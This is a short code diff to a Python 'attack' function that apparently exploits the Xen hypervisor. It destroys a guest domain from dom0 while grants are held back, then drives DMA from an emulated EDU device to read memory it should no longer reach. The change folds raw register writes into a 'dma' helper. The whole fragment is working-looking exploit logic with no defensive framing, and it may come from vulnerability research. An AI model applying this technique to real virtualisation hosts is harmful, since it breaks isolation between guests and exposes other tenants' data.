@@ -43,11 +43,7 @@ def attack(w, image):
     m.dom0(f"xl destroy {w.edu.name} >/tmp/destroy 2>&1 &")
     with step("destroy, held behind the release of the grants"):
         held = g.wait_stop()
-    for register, value in ((0x80, 0x40000), (0x88, P1), (0x90, 8), (0x98, 3)):
-        g.poke64(dev.EDU_A.bar + register, value)
-    g.go_without(held)                   # the device takes 100 ms
-    time.sleep(1)
-    g.stop()
+    g.dma(held, dev.EDU_A.bar, 0x40000, P1, 8, 3)
     g.clear(place)
     g.close()
     seen = page(f"look {mine:x}")
